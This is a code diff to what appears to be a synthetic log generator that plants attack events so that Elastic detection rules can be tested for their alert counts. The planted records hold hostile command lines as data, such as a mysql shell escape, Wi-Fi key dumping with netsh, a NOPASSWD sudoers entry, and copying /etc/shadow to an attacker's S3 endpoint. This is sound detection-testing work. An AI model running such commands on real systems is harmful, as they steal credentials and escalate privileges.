@@ -10,14 +10,16 @@ export interface GenerateOptions {
   readonly seed: number;
   /** Epoch ms of the first event (default 2026-11-23T00:00:00Z). */
   readonly start?: number;
-  /** One planted attack per this many events (default 10,000; at least 2, as a plant may be two events). */
+  /** One planted attack per this many events (default 10,000; at least MIN_PLANT_EVERY, as a plant may be 15 events). */
   readonly plantEvery?: number;
 }
 
 /**
  * The planted patterns: which rule (by name) each one triggers. The first two are the bundled rules
- * (the seeds); the others are rules of Elastic's corpus: EQL's event query, sequence and sample, and a
- * KQL query rule (sudoers).
+ * (the seeds; the corpus's xp_cmdshell rule of that name is a new-terms rule, which the plant meets
+ * too); the others are rules of Elastic's corpus: EQL's event query, sequence and sample, a KQL
+ * query rule (sudoers), a threshold rule (15 kills) and a new-terms rule (the AWS CLI with a custom
+ * endpoint, twice on one host: new the first time only).
  */
 export const PLANTED_RULES = {
   mysql: 'Linux Restricted Shell Breakout via the mysql command',
@@ -26,20 +28,34 @@ export const PLANTED_RULES = {
   rwxNetwork: 'Network Connection from Binary with RWX Memory Region',
   netshWlan: 'Wireless Credential Dumping using Netsh Command',
   sudoersEcho: 'Potential Privilege Escalation via Sudoers File Modification',
+  killBurst: 'High Number of Process Terminations',
+  awsEndpoint: 'AWS CLI Command with Custom Endpoint URL',
 } as const;
 
 type PlantKind = keyof typeof PLANTED_RULES;
 /** Plants take turns in this order. */
-const PLANT_ORDER: readonly PlantKind[] = ['mysql', 'xpCmdshell', 'straceSshd', 'rwxNetwork', 'netshWlan', 'sudoersEcho'];
-/** Events per plant: one for an event query, two for the sequence and the sample. */
-const PLANT_EVENTS: Readonly<Record<PlantKind, 1 | 2>> = { mysql: 1, xpCmdshell: 1, straceSshd: 2, rwxNetwork: 2, netshWlan: 1, sudoersEcho: 1 };
+const PLANT_ORDER: readonly PlantKind[] = ['mysql', 'xpCmdshell', 'straceSshd', 'rwxNetwork', 'netshWlan', 'sudoersEcho', 'killBurst', 'awsEndpoint'];
+/** Events per plant: one for an event query, two for the sequence, the sample and the new terms, 15 for the threshold. */
+const PLANT_EVENTS: Readonly<Record<PlantKind, number>> = { mysql: 1, xpCmdshell: 1, straceSshd: 2, rwxNetwork: 2, netshWlan: 1, sudoersEcho: 1, killBurst: 15, awsEndpoint: 2 };
+/** The smallest spacing of plants: the longest plant and one event. */
+export const MIN_PLANT_EVERY = Math.max(...Object.values(PLANT_EVENTS)) + 1;
 /**
  * Alerts per plant: an event query's match is one alert; a sequence's or a sample's is one alert of
- * its own and one building-block alert per event, as Kibana raises them.
+ * its own and one building-block alert per event, as Kibana raises them; a threshold group's is one,
+ * and a new term's one (its second event is not new).
  */
-const plantAlerts = (kind: PlantKind): number => (PLANT_EVENTS[kind] === 1 ? 1 : PLANT_EVENTS[kind] + 1);
+const plantAlerts = (kind: PlantKind): number => (kind === 'killBurst' || kind === 'awsEndpoint' || PLANT_EVENTS[kind] === 1 ? 1 : PLANT_EVENTS[kind] + 1);
+/**
+ * Plants whose rule alerts once per host (a threshold group, a new term): a second plant on a host
+ * that had one raises no alert of its own.
+ */
+const ONCE_PER_HOST: ReadonlySet<PlantKind> = new Set(['killBurst', 'awsEndpoint']);
 /** The host of a plant, as the remainder of its host number by 10 (0-4 Linux, 5-8 Windows, 9 macOS). */
-const PLANT_HOST: Readonly<Record<PlantKind, number>> = { mysql: 0, xpCmdshell: 5, straceSshd: 1, rwxNetwork: 2, netshWlan: 6, sudoersEcho: 3 };
+const PLANT_HOST: Readonly<Record<PlantKind, number>> = { mysql: 0, xpCmdshell: 5, straceSshd: 1, rwxNetwork: 2, netshWlan: 6, sudoersEcho: 3, killBurst: 4, awsEndpoint: 4 };
+/** Hosts the generator makes. */
+const HOSTS = 500;
+/** The host number of the plant at event `i`. */
+const plantHost = (kind: PlantKind, i: number, every: number): number => ((i / every) * 10 + PLANT_HOST[kind]) % HOSTS;
 
 /** mulberry32: small, fast, and the same everywhere. */
 export function rng(seed: number): () => number {
@@ -97,10 +113,16 @@ const base = (p: string): string => p.split(/[\\/]/).pop()!;
 export function plantedCounts(options: GenerateOptions): Record<string, number> {
   const every = plantEvery(options);
   const out: Record<string, number> = {};
+  const hostsHit = new Set<string>();
   let plants = 0;
   for (let i = every; i < options.events; i += every) {
     const kind = PLANT_ORDER[plants++ % PLANT_ORDER.length]!;
     if (i + PLANT_EVENTS[kind] > options.events) continue;
+    if (ONCE_PER_HOST.has(kind)) {
+      const key = `${kind}:${plantHost(kind, i, every)}`;
+      if (hostsHit.has(key)) continue;
+      hostsHit.add(key);
+    }
     out[PLANTED_RULES[kind]] = (out[PLANTED_RULES[kind]] ?? 0) + plantAlerts(kind);
   }
   return out;
@@ -108,7 +130,7 @@ export function plantedCounts(options: GenerateOptions): Record<string, number> 
 
 function plantEvery(options: GenerateOptions): number {
   const every = options.plantEvery ?? 10_000;
-  if (!Number.isInteger(every) || every < 2) throw new RangeError(`plantEvery must be an integer of at least 2, not ${every}`);
+  if (!Number.isInteger(every) || every < MIN_PLANT_EVERY) throw new RangeError(`plantEvery must be an integer of at least ${MIN_PLANT_EVERY}, not ${every}`);
   return every;
 }
 
@@ -116,15 +138,15 @@ function plantEvery(options: GenerateOptions): number {
 export function* generateEvents(options: GenerateOptions): Generator<string> {
   const r = rng(options.seed);
   const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
-  const hosts: Host[] = Array.from({ length: 500 }, (_, i) => {
+  const hosts: Host[] = Array.from({ length: HOSTS }, (_, i) => {
     const os: Os = i % 10 < 5 ? 'linux' : i % 10 < 9 ? 'windows' : 'macos';
     return { name: `${os === 'windows' ? 'WIN' : os === 'macos' ? 'mac' : 'lin'}-${String(i).padStart(4, '0')}`, id: `h${(i * 2654435761) >>> 0}`, os, ip: `10.${(i >> 8) & 255}.${i & 255}.${10 + (i % 200)}` };
   });
   const every = plantEvery(options);
   let t = options.start ?? Date.parse('2026-11-23T00:00:00Z');
   let plants = 0;
-  /** The second event of a two-event plant, for the next line. */
-  let next: ((common: Record<string, unknown>) => string) | null = null;
+  /** The later events of a plant, one per next line. */
+  const next: Array<(common: Record<string, unknown>) => string> = [];
   for (let i = 0; i < options.events; i++) {
     t += 1 + Math.floor(r() * 40);
     const ts = new Date(t).toISOString();
@@ -132,25 +154,24 @@ export function* generateEvents(options: GenerateOptions): Generator<string> {
     const user = h.os === 'windows' && r() < 0.2 ? 'SYSTEM' : pick(USERS.slice(0, 8));
     const common = { '@timestamp': ts, agent: { type: 'endpoint', version: '8.17.0' }, host: { name: h.name, id: h.id, ip: [h.ip], os: { type: h.os, family: h.os === 'linux' ? 'debian' : h.os, platform: h.os } }, user: { name: user } };
     const entity = `${h.id}-${i}`;
-    if (next !== null) {
-      yield next(common);
-      next = null;
+    if (next.length > 0) {
+      yield next.shift()!(common);
       continue;
     }
     if (i > 0 && i % every === 0) {
       const kind = PLANT_ORDER[plants++ % PLANT_ORDER.length]!;
-      const two = PLANT_EVENTS[kind] === 2;
-      // the attack happens on a host of the right kind; a plant of two events needs room for both
+      const two = PLANT_EVENTS[kind] > 1;
+      // the attack happens on a host of the right kind; a plant of several events needs room for all
       if (i + PLANT_EVENTS[kind] <= options.events) {
-        const target = hosts[((i / every) * 10 + PLANT_HOST[kind]) % hosts.length]!;
+        const target = hosts[plantHost(kind, i, every)]!;
         const hostOf = { name: target.name, id: target.id, ip: [target.ip], os: { type: target.os, family: target.os === 'linux' ? 'debian' : target.os, platform: target.os } };
         common.host = hostOf;
-        // a two-event plant's process has a pid of its own: samples join on it
+        // a plant's process of several events has a pid of its own: samples join on it
         const pid = two ? 50000 + plants : 30000 + (i % 1000);
         yield plantEvent(kind, common, entity, pid);
-        // the second event: on the same host, by the same user, and by the same process where the rule joins on it
+        // the later events: on the same host, by the same user, and by the same process where the rule joins on it
         const user = common.user;
-        if (two) next = (c) => plantFollowUp(kind, { ...c, host: hostOf, user }, entity, pid);
+        for (let k = 1; k < PLANT_EVENTS[kind]; k++) next.push((c) => plantFollowUp(kind, { ...c, host: hostOf, user }, entity, pid, k));
         continue;
       }
     }
@@ -211,7 +232,7 @@ function plantEvent(kind: PlantKind, common: Record<string, unknown>, entity: st
     case 'mysql':
       return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'bash', executable: '/bin/bash', pid, entity_id: entity, args: ['bash'], parent: { name: 'mysql', executable: '/usr/bin/mysql', args: ['mysql', '-u', 'app', '-e', '\\!/bin/bash'], entity_id: `${entity}-p` } } });
     case 'xpCmdshell':
-      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], dataset: 'endpoint.events.process' }, process: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', pid: pid + 10000, entity_id: entity, args: ['cmd.exe', '/c', 'whoami /all'], command_line: 'cmd.exe /c whoami /all', parent: { name: 'sqlservr.exe', executable: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\MSSQL\\Binn\\sqlservr.exe', entity_id: `${entity}-p` } } });
+      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], dataset: 'endpoint.events.process' }, process: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', pe: { original_file_name: 'Cmd.Exe' }, pid: pid + 10000, entity_id: entity, args: ['cmd.exe', '/c', 'whoami /all'], command_line: 'cmd.exe /c whoami /all', parent: { name: 'sqlservr.exe', executable: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\MSSQL\\Binn\\sqlservr.exe', entity_id: `${entity}-p` } } });
     case 'straceSshd':
       // an SSH session's daemon ends, and strace starts on the host within the rule's 3 s
       return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['end'], action: 'end', dataset: 'endpoint.events.process' }, process: { name: 'sshd', executable: '/usr/sbin/sshd', pid, entity_id: entity, args: ['sshd: alice [priv]'], parent: { name: 'sshd', executable: '/usr/sbin/sshd', entity_id: `${entity}-p` } } });
@@ -220,14 +241,21 @@ function plantEvent(kind: PlantKind, common: Record<string, unknown>, entity: st
       return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['info'], action: 'changed-memory-protection', dataset: 'auditd_manager.auditd' }, auditd: { data: { syscall: 'mprotect', a2: '7' } }, process: { name: 'kdevtmpfsi', executable: '/tmp/.x/kdevtmpfsi', pid, entity_id: entity } });
     case 'netshWlan':
       return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process' }, process: { name: 'netsh.exe', executable: 'C:\\Windows\\System32\\netsh.exe', pid: pid + 10000, entity_id: entity, args: ['netsh.exe', 'wlan', 'show', 'profile', 'name=CorpWifi', 'key=clear'], command_line: 'netsh.exe wlan show profile name=CorpWifi key=clear', parent: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', entity_id: `${entity}-p` } } });
+    case 'killBurst':
+      // one of 15 processes killed by the same user with the same kill on one host (one alert, by the threshold)
+      return JSON.stringify({ ...common, user: { name: 'root' }, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'kill', executable: '/usr/bin/kill', pid, entity_id: entity, args: ['kill', '-9', String(pid + 100)], command_line: `kill -9 ${pid + 100}`, parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
+    case 'awsEndpoint':
+      // the AWS CLI sent to an endpoint of the attacker's (the host's first: a new term; its second is not new)
+      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'aws', executable: '/usr/local/bin/aws', pid, entity_id: entity, args: ['aws', 's3', 'cp', '/etc/shadow', 's3://drop/x', '--endpoint-url', 'http://203.0.113.9:9000'], parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
     case 'sudoersEcho':
       // a shell echoes a rule that lets a user run anything as root into sudoers
       return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'echo', executable: '/usr/bin/echo', pid, entity_id: entity, args: ['echo', 'svc-web ALL=(ALL) NOPASSWD:ALL'], parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
   }
 }
 
-/** The second event of a two-event plant. */
-function plantFollowUp(kind: PlantKind, common: Record<string, unknown>, entity: string, pid: number): string {
+/** The `k`-th later event of a plant of several events (k from 1). */
+function plantFollowUp(kind: PlantKind, common: Record<string, unknown>, entity: string, pid: number, k: number): string {
+  if (kind === 'killBurst' || kind === 'awsEndpoint') return plantEvent(kind, common, `${entity}-${k}`, pid + k);
   if (kind === 'straceSshd')
     return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'strace', executable: '/usr/bin/strace', pid: pid + 1, entity_id: `${entity}-s`, args: ['strace', '-f', '-p', String(pid), '-e', 'trace=read,write'], parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
   // ... then the same process connects out
